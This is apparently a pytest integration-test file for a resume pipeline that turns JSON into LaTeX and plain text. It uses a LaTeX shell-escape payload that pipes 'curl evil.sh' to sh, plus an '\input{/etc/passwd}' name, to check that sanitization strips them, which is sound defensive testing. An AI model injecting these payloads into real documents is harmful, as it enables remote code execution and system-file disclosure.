"""
Integration tests for the in-memory pipeline: raw JSON -> clean -> normalize -> LaTeX / plain text.
"""

import re

import pytest

from restex.contexts.intake.cleaner import clean
from restex.contexts.intake.exceptions import MalformedInputError, OversizedInputError
from restex.contexts.intake.normalizer import normalize
from restex.contexts.templating.converter import build_artifacts, check_input_size
from restex.contexts.templating.latex_generator import compile_document
from restex.contexts.templating.latex_parser import parse_latex
from restex.contexts.templating.plaintext_formatter import project_plaintext
from restex.contexts.templating.sanitizer import escape, unescape

ESCAPED_BRACE = re.compile(r"\\[{}]")
FILE_WRITE_PAYLOAD = r"\immediate\write18{curl evil.sh | sh}"


def _is_well_formed(latex: str) -> bool:
    """Braces balance outside escape forms and every environment is closed."""
    depth = 0
    for char in ESCAPED_BRACE.sub("", latex):
        if char == "{":
            depth += 1
        elif char == "}":
            depth -= 1
            if depth < 0:
                return False
    if depth != 0:
        return False

    begins = re.findall(r"\\begin\{(\w+)\}", latex)
    ends = re.findall(r"\\end\{(\w+)\}", latex)
    return sorted(begins) == sorted(ends) and begins.count("document") == 1


@pytest.mark.integration
class TestEndToEndScenarios:
    """Raw input through to both artifacts."""

    def test_minimal_resume_with_experience(self):
        """Test a small resume with one experience entry."""
        raw = {
            "name": "Ada Lovelace",
            "title": "Engineer",
            "contact": {"email": "ada@example.com"},
            "experience": [
                {"position": "Dev", "company": "Acme", "dates": "2020-2022", "highlights": ["Shipped X"]}
            ],
        }
        latex = build_artifacts(raw).latex

        assert "\\begin{center}\n\t{\\Huge \\scshape {Ada Lovelace}}\\\\" in latex
        assert "\\header{Experience}" in latex
        assert "\\textbf{Acme}" in latex
        assert latex.count("\\item ") == 1
        assert "\\item Shipped X" in latex
        for section in ("Education", "Skills", "Projects"):
            assert f"\\header{{{section}}}" not in latex
        assert _is_well_formed(latex)

    def test_grouped_skills_are_flattened(self):
        """Test that skill groups lose their labels in both artifacts."""
        artifacts = build_artifacts(
            {"name": "Ada", "skills": [{"category": "Languages", "items": ["Go", "Rust"]}]}
        )

        assert artifacts.model.skills == ("Go", "Rust")
        assert "\\header{Skills}\nGo, Rust\\\\" in artifacts.latex
        assert "Languages" not in artifacts.latex
        assert "SKILLS\nGo, Rust" in artifacts.plaintext

    def test_sentinel_details_are_dropped(self):
        """Test that sentinel details never reach the model."""
        raw = {"education": [{"degree": "BSc", "details": ["Not provided", "GPA: 3.9"]}]}
        model = normalize(clean(raw))
        assert model.education[0].details == ("GPA: 3.9",)

    def test_file_write_payload_is_neutralized(self):
        """Test that a shell escape payload is removed and the rest kept."""
        raw = {
            "name": "Ada",
            "experience": [{"company": "Acme", "highlights": [FILE_WRITE_PAYLOAD, "Real work"]}],
        }
        escaped = escape(FILE_WRITE_PAYLOAD)
        assert "\\write18" not in escaped
        assert "\\immediate" not in escaped

        latex = build_artifacts(raw).latex
        assert "write18" not in latex
        assert "evil.sh" not in latex
        assert "\\item Real work" in latex
        assert _is_well_formed(latex)

    def test_non_object_root_is_rejected(self):
        """Test that a non-object root is refused at both entry points."""
        with pytest.raises(MalformedInputError):
            normalize("just a string")
        with pytest.raises(MalformedInputError):
            build_artifacts("just a string")

    def test_equal_models_compile_identically(self, load_fixture):
        """Test that separately built equal models compile to the same bytes."""
        first = normalize(clean(load_fixture("flat_resume")))
        second = normalize(clean(load_fixture("flat_resume")))
        assert first is not second
        assert compile_document(first) == compile_document(second)


@pytest.mark.integration
class TestPipelineProperties:
    """Properties that hold across the fixtures and all input shapes."""

    @pytest.mark.parametrize("stem", ["flat_resume", "content_resume", "header_sections_resume"])
    def test_fixtures_compile_to_well_formed_latex(self, load_fixture, stem):
        """Test that every fixture compiles to balanced LaTeX."""
        assert _is_well_formed(build_artifacts(load_fixture(stem)).latex)

    @pytest.mark.parametrize("stem", ["flat_resume", "content_resume", "header_sections_resume"])
    def test_no_sentinel_reaches_either_artifact(self, load_fixture, stem):
        """Test that sentinels appear in neither artifact."""
        artifacts = build_artifacts(load_fixture(stem))
        assert "Not provided" not in artifacts.latex
        assert "Not provided" not in artifacts.plaintext

    @pytest.mark.parametrize(
        "name",
        ["Ada Lovelace", "José O'Brien-Smith", "Ada_L & Co. #1", "\\input{/etc/passwd}Ada   Lovelace"],
    )
    def test_name_matches_across_artifacts(self, name):
        """Test that both artifacts carry the same name."""
        artifacts = build_artifacts({"name": name, "skills": ["Go"]})
        latex_name = parse_latex(artifacts.latex).name
        plaintext_name = artifacts.plaintext.split("\n")[0]
        assert latex_name == plaintext_name

    def test_experience_section_tracks_field(self):
        """Test that the Experience header follows the experience field."""
        with_experience = compile_document(normalize({"name": "Ada", "experience": [{"company": "Acme"}]}))
        without_experience = compile_document(normalize({"name": "Ada", "experience": []}))
        assert "\\header{Experience}" in with_experience
        assert "\\header{Experience}" not in without_experience

    def test_sparse_resume_still_produces_both_artifacts(self):
        """Test a resume with only a title."""
        artifacts = build_artifacts({"title": "Engineer"})
        assert "\\header{Profile}" in artifacts.latex
        assert _is_well_formed(artifacts.latex)
        assert project_plaintext(artifacts.model) == "\n\nEngineer\n"
        assert "\\scshape" not in artifacts.latex

    def test_sections_sanitized_to_nothing_are_omitted(self):
        """Test that sections whose values sanitize away are left out."""
        artifacts = build_artifacts({"name": "Ada", "title": "\\foo", "skills": ["\\bar"]})
        body = artifacts.latex.split("\\begin{document}")[1]
        assert "\\header{" not in body
        assert all(line.strip() != "\\\\" for line in body.split("\n"))
        assert parse_latex(artifacts.latex).name == "Ada"

    def test_reserved_characters_survive_as_text(self):
        """Test that reserved characters read back as themselves."""
        raw = {"name": "Ada", "skills": ["C#", "R&D", "50%", "$", "a_b", "x^2", "~/bin", "a|b", "<T>"]}
        artifacts = build_artifacts(raw)
        skills_line = artifacts.latex.split("\\header{Skills}\n")[1].split("\\\\\n")[0]
        assert unescape(skills_line) == "C#, R&D, 50%, $, a_b, x^2, ~/bin, a|b, <T>"


@pytest.mark.integration
class TestInputSizeGuard:
    """Oversized inputs are rejected before any processing."""

    def test_small_input_passes(self):
        """Test that the serialized size is returned."""
        assert check_input_size({"name": "Ada"}) == len('{"name": "Ada"}')

    def test_explicit_cap(self):
        """Test a caller-supplied cap."""
        with pytest.raises(OversizedInputError) as exc_info:
            check_input_size({"name": "Ada Lovelace"}, max_bytes=10)
        assert exc_info.value.max_bytes == 10

    def test_default_cap_applies_to_pipeline(self):
        """Test that build_artifacts enforces the default cap."""
        with pytest.raises(OversizedInputError):
            build_artifacts({"name": "x" * 600_000})
